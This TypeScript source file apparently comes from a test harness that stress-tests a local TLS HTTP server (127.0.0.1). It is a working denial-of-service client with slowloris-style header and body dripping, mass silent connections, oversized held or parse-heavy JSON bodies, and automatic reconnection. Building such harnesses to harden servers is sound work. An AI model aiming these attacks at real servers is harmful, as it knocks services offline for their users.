// One client that means harm, as a process of its own: `node attacker.ts KIND PORT ADDRESS`. It never looks at an answer, and opens anew what is cut.
import { connect as connectPlain } from 'node:net'
import { connect } from 'node:tls'

interface Attack {
  readonly connections: number
  /** What is sent once connected. */
  readonly start: string
  /** What is sent after it, every so often. */
  readonly drip?: { readonly bytes: string | Buffer; readonly everyMs: number }
}

const head = (length: number): string =>
  `POST /mutate?timeout=600s HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${length}\r\n\r\n`
const limit = 7_340_032

const attacks: Readonly<Record<string, Attack>> = {
  'slow-large': { connections: 2_000, start: head(262_145), drip: { bytes: ' ', everyMs: 6_000 } },
  'slow-small': { connections: 2_000, start: head(1_000), drip: { bytes: ' ', everyMs: 6_000 } },
  'slow-headers': {
    connections: 2_000,
    start: 'POST /mutate HTTP/1.1\r\nhost: x\r\n',
    drip: { bytes: 'a: b\r\n', everyMs: 6_000 },
  },
  silent: { connections: 5_000, start: '' },
  // All but the last byte, so that each body stays where it is.
  bodies: { connections: 60, start: head(limit), drip: { bytes: Buffer.alloc(limit - 1, ' '), everyMs: 3_600_000 } },
  // Whole ones, each a list of as many objects as may be.
  parsed: { connections: 60, start: head(limit), drip: { bytes: wholeBody(), everyMs: 3_600_000 } },
}

function wholeBody(): Buffer {
  const body = Buffer.alloc(limit, ' ')
  body.write(`[${Array.from({ length: 160_000 }, () => '{"a":{}}').join(',')}]`)
  return body
}

const [kind = '', portText = '', localAddress = ''] = process.argv.slice(2)
const attack = attacks[kind]
if (attack === undefined) throw new Error(`one of ${Object.keys(attacks).join(', ')}`)
const port = Number(portText)

function open({ start, drip }: Attack): void {
  const plain = connectPlain({ host: '127.0.0.1', port, localAddress }).on('error', () => {})
  const socket = connect({ socket: plain, rejectUnauthorized: false })
  let dripping: NodeJS.Timeout | undefined
  socket.on('secureConnect', () => {
    socket.write(start)
    if (drip === undefined) return
    socket.write(drip.bytes)
    dripping = setInterval(() => socket.write(drip.bytes), drip.everyMs)
  })
  socket.on('data', () => {})
  socket.on('error', () => {})
  socket.on('close', () => {
    clearInterval(dripping)
    // Not at once: what a client can send is bounded by its own machine, and this one is also that of who is attacked.
    setTimeout(() => attack !== undefined && open(attack), 250)
  })
}

for (let count = 0; count < attack.connections; count++) open(attack)
